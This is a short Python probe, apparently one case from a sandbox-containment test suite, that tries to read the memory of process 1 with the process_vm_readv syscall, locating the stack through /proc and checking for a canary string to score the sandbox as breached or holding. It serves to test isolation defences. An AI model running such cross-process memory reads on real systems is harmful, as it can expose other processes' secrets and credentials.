# technique: read the memory of pid 1 by process_vm_readv
# family: C2
# severity: C
# layers: seccomp, ids, no_proc
# profile: python-full
import ctypes
import struct

start, size = 0x400000, 4096  # without /proc there is no better guess
try:
    parent = next(line for line in open("/proc/self/status") if line.startswith("PPid:")).split()[1]
    place = next(line for line in open("/proc/%s/maps" % parent) if "[stack]" in line).split()[0].split("-")
    start, size = int(place[0], 16), int(place[1], 16) - int(place[0], 16)
except OSError:
    pass
buffer = ctypes.create_string_buffer(size)
r, e = call("process_vm_readv", 1, struct.pack("<QQ", ctypes.addressof(buffer), size), 1, struct.pack("<QQ", start, size), 1, 0)
if b"@CANARY@" in buffer.raw:
    won("@CANARY@ was in its memory")
elif e:
    held("process_vm_readv: " + e)
else:
    won("read %d bytes of it" % r)
